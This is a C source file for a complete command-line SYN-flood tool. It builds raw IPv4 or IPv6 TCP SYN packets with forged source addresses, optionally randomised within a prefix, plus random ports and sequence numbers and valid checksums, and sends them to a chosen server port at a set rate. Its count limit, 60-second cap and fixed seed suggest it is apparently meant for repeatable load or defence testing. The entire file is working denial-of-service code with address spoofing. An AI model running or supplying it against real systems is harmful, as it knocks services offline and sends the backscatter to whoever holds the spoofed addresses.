/* SPDX-License-Identifier: BSD-2-Clause */
/* Sends COUNT TCP SYNs at PPS a second to SERVER PORT in the name of FROM, an address or a prefix whose host bits are
 * then random, with random ports and sequence numbers and right checksums. Raw sockets, so the kernel routes them and
 * the answers go to whoever has the address. Bounded: ends after COUNT packets, at the latest after 60 seconds.
 * The random numbers always begin with the same seed: a run can be repeated. */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <netinet/tcp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#define RUN_MAX_S 60

/* Addresses are 16 bytes for both families; IPv4 uses the first four. */
struct flood {
	int family;
	size_t address_bytes;
	unsigned char from[16], server[16];
	unsigned prefixlen;
	uint16_t port_be;
};

static double now_s(void)
{
	struct timespec now;

	clock_gettime(CLOCK_MONOTONIC, &now);
	return now.tv_sec + now.tv_nsec / 1e9;
}

static uint32_t sum_words(const void *bytes, size_t length)
{
	uint32_t sum = 0;

	for (size_t i = 0; i < length; i += 2) {
		uint16_t word;

		memcpy(&word, (const char *)bytes + i, 2);
		sum += word;
	}
	return sum;
}

static uint16_t tcp_checksum(const struct flood *flood, const unsigned char *saddr, const struct tcphdr *tcp)
{
	uint32_t sum = sum_words(saddr, flood->address_bytes) + sum_words(flood->server, flood->address_bytes) +
		       sum_words(tcp, sizeof(*tcp)) + htons(IPPROTO_TCP) + htons(sizeof(*tcp));

	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return ~sum;
}

static void random_source(const struct flood *flood, unsigned char *saddr)
{
	memcpy(saddr, flood->from, sizeof(flood->from));
	for (unsigned bit = flood->prefixlen; bit < flood->address_bytes * 8; bit++)
		if (random() & 1)
			saddr[bit / 8] ^= 0x80 >> bit % 8;
}

/* Writes one SYN to `packet` and returns its length. The kernel fills in the IPv4 checksum and identification. */
static size_t build_syn(const struct flood *flood, unsigned char *packet)
{
	size_t ip_bytes = flood->family == AF_INET ? sizeof(struct iphdr) : sizeof(struct ip6_hdr);
	struct tcphdr *tcp = (struct tcphdr *)(packet + ip_bytes);
	unsigned char saddr[16];

	random_source(flood, saddr);
	memset(packet, 0, ip_bytes + sizeof(*tcp));
	if (flood->family == AF_INET) {
		struct iphdr *ip = (struct iphdr *)packet;

		*ip = (struct iphdr){.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP};
		ip->tot_len = htons(ip_bytes + sizeof(*tcp));
		memcpy(&ip->saddr, saddr, 4);
		memcpy(&ip->daddr, flood->server, 4);
	} else {
		struct ip6_hdr *ip = (struct ip6_hdr *)packet;

		ip->ip6_flow = htonl(6u << 28);
		ip->ip6_plen = htons(sizeof(*tcp));
		ip->ip6_nxt = IPPROTO_TCP;
		ip->ip6_hlim = 64;
		memcpy(&ip->ip6_src, saddr, 16);
		memcpy(&ip->ip6_dst, flood->server, 16);
	}
	tcp->source = htons(1024 + random() % 64000);
	tcp->dest = flood->port_be;
	tcp->seq = random();
	tcp->doff = sizeof(*tcp) / 4;
	tcp->syn = 1;
	tcp->window = htons(64240);
	tcp->check = tcp_checksum(flood, saddr, tcp);
	return ip_bytes + sizeof(*tcp);
}

static int flood_parse(struct flood *flood, char *from, const char *server, const char *port)
{
	char *slash = strchr(from, '/');

	flood->family = strchr(server, ':') ? AF_INET6 : AF_INET;
	flood->address_bytes = flood->family == AF_INET ? 4 : 16;
	flood->prefixlen = flood->address_bytes * 8;
	if (slash) {
		*slash = 0;
		flood->prefixlen = atoi(slash + 1);
	}
	flood->port_be = htons(atoi(port));
	return inet_pton(flood->family, from, flood->from) == 1 && inet_pton(flood->family, server, flood->server) == 1;
}

static void pace(double start_s, double due_s)
{
	double ahead_s = start_s + due_s - now_s();

	if (ahead_s > 0.001)
		nanosleep(&(struct timespec){.tv_sec = ahead_s, .tv_nsec = (ahead_s - (long)ahead_s) * 1e9}, NULL);
}

int main(int argc, char **argv)
{
	struct sockaddr_storage to = {0};
	struct flood flood = {0};
	unsigned char packet[80];
	double start_s = now_s();
	long count, pps, sent;
	int sock;

	if (argc != 6 || !flood_parse(&flood, argv[1], argv[2], argv[3]) || (count = atol(argv[4])) <= 0 ||
	    (pps = atol(argv[5])) <= 0) {
		fprintf(stderr, "usage: synflood FROM[/LENGTH] SERVER PORT COUNT PPS\n");
		return 2;
	}
	to.ss_family = flood.family;
	if (flood.family == AF_INET)
		memcpy(&((struct sockaddr_in *)&to)->sin_addr, flood.server, 4);
	else
		memcpy(&((struct sockaddr_in6 *)&to)->sin6_addr, flood.server, 16);
	sock = socket(flood.family, SOCK_RAW, IPPROTO_RAW);
	if (sock < 0) {
		perror("synflood: socket");
		return 1;
	}
	for (sent = 0; sent < count && now_s() - start_s < RUN_MAX_S; sent++) {
		pace(start_s, (double)sent / pps);
		if (sendto(sock, packet, build_syn(&flood, packet), 0, (struct sockaddr *)&to,
			   flood.family == AF_INET ? sizeof(struct sockaddr_in) : sizeof(struct sockaddr_in6)) < 0 &&
		    errno != ENOBUFS) {
			perror("synflood: sendto");
			return 1;
		}
	}
	printf("%ld SYNs in %.2f s\n", sent, now_s() - start_s);
	return 0;
}
